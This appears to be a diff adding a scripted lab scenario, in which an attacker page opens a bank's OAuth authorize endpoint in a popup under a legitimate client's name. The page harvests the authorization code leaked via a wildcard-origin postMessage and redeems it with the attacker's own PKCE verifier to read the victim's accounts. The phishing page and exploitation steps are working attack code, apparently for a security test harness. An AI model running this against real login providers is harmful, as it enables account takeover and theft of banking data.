@@ -1,0 +1,66 @@
+"""A page opens Bank ID in a window of its own, in Balance's name, and listens."""
+
+from typing import Any
+from urllib.parse import urlsplit
+
+from flask import Response
+
+from labs.chromium import BrowserStage
+from labs.stage import Stage, Stuck
+from labs.steps import step
+
+PAGE = """<!doctype html><html lang="en"><title>Your statement</title><h1>Your statement is ready</h1>
+<p><button type="button">Sign in to read it</button></p><form method="post" action="/statement/answer"></form><script>
+const form = document.forms[0];
+document.querySelector("button").addEventListener("click", () => {
+  window.open("%s/authorize" + location.search, "bank", "popup,width=560,height=800");
+});
+addEventListener("message", ({ data }) => {
+  for (const [name, value] of Object.entries(data.response)) {
+    form.append(Object.assign(document.createElement("input"), { type: "hidden", name, value }));
+  }
+  form.submit();
+});
+</script></html>"""
+
+
+def statement(world: Any) -> Response:
+    """Open a window at Bank ID when the button is pressed, and send home what that window says."""
+    page = Response(PAGE % world.here.auth)
+    page.headers["Content-Security-Policy"] = "default-src 'none'; script-src 'unsafe-inline'"
+    return page
+
+
+PAGES = {"/statement": statement}
+
+
+@step("attacker")
+def makes_a_link(stage: Stage) -> None:
+    """Make a link to a page that asks Bank ID in Balance's name, with the attacker's own challenge."""
+    asked = urlsplit(stage.link("balance", stage.callback("balance"), response_mode="web_message")).query
+    stage.onward = f"{stage.here.attacker}/statement?{asked}"
+
+
+@step("Alice")
+def alice_signs_in(stage: BrowserStage) -> None:
+    """Follow the link, press the button, and in the window that opens sign in as alice, and allow."""
+    page = stage.alice.go(stage.onward).tab
+    stage.onward = ""
+    with page.expect_popup() as opened:
+        page.get_by_role("button", name="Sign in to read it").click()
+    stage.alice.tab = opened.value
+    stage.alice.tab.wait_for_load_state()
+    stage.alice.agree().rest()
+    if stage.alice.tab.locator('#answer[data-origin="*"]').count():  # said to anybody, so the page has heard it
+        page.wait_for_url("**/statement/answer")
+
+
+@step("attacker")
+def spends_the_code(stage: Stage) -> None:
+    """Redeem the code that the page heard, with the attacker's own verifier, and ask the bank."""
+    code = stage.collection.newest("code")
+    if not code:
+        raise Stuck("the page heard nothing")
+    form = {"redirect_uri": stage.callback("balance"), "code_verifier": stage.kept["verifier"]}
+    token = stage.attacker.redeem(code, client_id="balance", **form)
+    stage.attacker.bank("GET", "/accounts", token)
